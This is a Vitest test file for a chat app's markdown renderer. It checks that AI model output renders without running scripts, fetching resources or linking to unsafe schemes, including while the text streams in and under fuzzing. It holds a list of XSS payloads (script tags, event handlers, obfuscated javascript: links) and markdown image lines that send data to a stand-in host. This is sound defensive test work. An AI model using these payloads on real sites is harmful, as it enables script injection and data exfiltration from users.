import { cleanup, render } from "@testing-library/react";
import fc from "fast-check";
import { IntlProvider } from "use-intl";
import { afterEach, describe, expect, it } from "vitest";

import chat from "@/messages/en/chat.json";

import { MarkdownRenderer } from "./markdown-renderer";
import { safeUrl } from "./safe-url";

const page = (text: string) => (
  <IntlProvider locale="en" messages={{ chat }} timeZone="UTC">
    <MarkdownRenderer text={text} />
  </IntlProvider>
);

function show(text: string): HTMLElement {
  return render(page(text)).container;
}

/** Shows the text as it would come: cut at these places. */
function stream(text: string, cuts: readonly number[]): HTMLElement {
  const { container, rerender } = render(page(""));
  for (const cut of [...cuts, text.length]) {
    rerender(page(text.slice(0, cut)));
    expectHarmless(container);
  }
  return container;
}

const FORBIDDEN = "script, style, iframe, object, embed, img, svg image, link, meta, base, form, video, audio, [style], [id], [srcdoc], [src], [formaction], [ping]";

/** Nothing runs, nothing is fetched, nothing leads anywhere but to the web and to mail. */
function expectHarmless(container: HTMLElement): void {
  expect(container.querySelector(FORBIDDEN)?.outerHTML).toBeUndefined();
  for (const element of container.querySelectorAll("*")) {
    for (const name of element.getAttributeNames()) expect(name).not.toMatch(/^on/i);
  }
  for (const link of container.querySelectorAll("a")) {
    expect(link.getAttribute("href")).toMatch(/^(?:https?|mailto):/);
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link.getAttribute("target")).toBe("_blank");
  }
}

afterEach(cleanup);

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<div style=\"background:url(https://evil.example/a)\">x</div>",
  "![pixel](https://evil.example/?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![a][pixel]\n\n[pixel]: https://evil.example/p.png",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x0A;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](//evil.example)",
  "[x](/settings)",
  "[x](#top)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "[x](https://ok.example \"a\\\" onmouseover=alert(1) \\\"\")",
  "note[^1]\n\n[^1]: [x](javascript:alert(1)) ![p](https://evil.example)",
  "| a |\n|:-:|\n| ![p](https://evil.example) <script>x</script> |",
  "- [x] <img src=x onerror=alert(1)>",
  "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
  "```\"onload=alert(1)\nx\n```",
  "# <script>alert(1)</script>\n<base href=https://evil.example>",
];

describe("what a model writes", () => {
  it("is harmless", () => {
    for (const attack of ATTACKS) {
      expectHarmless(show(attack));
      cleanup();
    }
  });

  it("is harmless at every moment while it comes", () => {
    for (const attack of ATTACKS) {
      stream(attack, Array.from(attack, (_, i) => i));
      cleanup();
    }
  });

  it("is harmless in any mixture, cut anywhere", () => {
    const text = fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ unit: "grapheme" })), { maxLength: 4 }).map((parts) => parts.join("\n"));
    fc.assert(fc.property(text, fc.array(fc.nat(200), { maxLength: 4 }), (whole, at) => {
      stream(whole, at.map((cut) => cut % (whole.length + 1)).sort((a, b) => a - b));
      cleanup();
    }), { numRuns: 150 });
  });

  it("shows HTML as it is written", () => {
    expect(show("Use <b>bold</b> & <script>x</script>.").textContent).toBe("Use <b>bold</b> & <script>x</script>.");
  });

  it("shows a picture by its words", () => {
    const container = show("Look: ![A red fox](https://example.com/fox.png)");
    expect(container.textContent).toContain("A red fox");
    expectHarmless(container);
  });

  it("leaves the words of a link that leads nowhere", () => {
    const container = show("[Click me](javascript:alert(1)) and [home](/)");
    expect(container.querySelector("a")).toBeNull();
    expect(container.textContent).toBe("Click me and home");
  });

  it("links to the web and to mail", () => {
    const hrefs = Array.from(show("<https://a.example/x?y=1> [b](http://b.example) [c](mailto:c@example.com) www.d.example").querySelectorAll("a"), (link) => link.getAttribute("href"));
    expect(hrefs).toEqual(["https://a.example/x?y=1", "http://b.example/", "mailto:c@example.com", "http://www.d.example/"]);
  });
});

describe("the look of it", () => {
  it("lets text run its own way, and code from the left", () => {
    const container = show("مرحبا `x`\n\n- عنصر\n\n```js\nlet a;\n```");
    expect(container.querySelector("p")?.getAttribute("dir")).toBe("auto");
    expect(container.querySelector("ul")?.getAttribute("dir")).toBe("auto");
    // A list would not look into items that have a direction of their own.
    expect(container.querySelector("li")?.hasAttribute("dir")).toBe(false);
    expect(container.querySelector("figure")?.getAttribute("dir")).toBe("ltr");
  });

  it("names a block's language and shows its code", () => {
    const figure = show("```TypeScript\nlet a = 1;\n\n```").querySelector("figure");
    expect(figure?.querySelector("figcaption")?.textContent).toBe("typescript");
    expect(figure?.querySelector("code")?.textContent).toBe("let a = 1;");
  });

  it("breaks lines in cells where the text says so", () => {
    expect(show("| a |\n|---|\n| x<br>y |").querySelectorAll("td br")).toHaveLength(1);
  });

  it("puts headings below those of the page", () => {
    expect(show("# One\n\n## Two").querySelectorAll("h1, h2")).toHaveLength(0);
  });

  it("renders only the tail anew", () => {
    const { container, rerender } = render(page("One.\n\nTw"));
    rerender(page("One.\n\nTwo.\n\nThree.\n\nFo"));
    const [first, second] = container.querySelectorAll("p");
    const before = first?.firstChild;
    rerender(page("One.\n\nTwo.\n\nThree.\n\nFour."));
    const after = container.querySelectorAll("p");
    expect(after[0]).toBe(first);
    expect(after[1]).toBe(second);
    expect(after[0]?.firstChild).toBe(before);
    expect(after[3]?.textContent).toBe("Four.");
  });
});

describe("safeUrl", () => {
  it("lets no other scheme through, whatever is put in front", () => {
    fc.assert(fc.property(fc.constantFrom("javascript:", "data:", "vbscript:", "file:", "blob:", "about:"), fc.string(), fc.stringMatching(/^[\u0000-\u0020]{0,4}$/), (scheme, rest, before) => {
      expect(safeUrl(before + scheme + rest)).toBe("");
    }));
  });
});
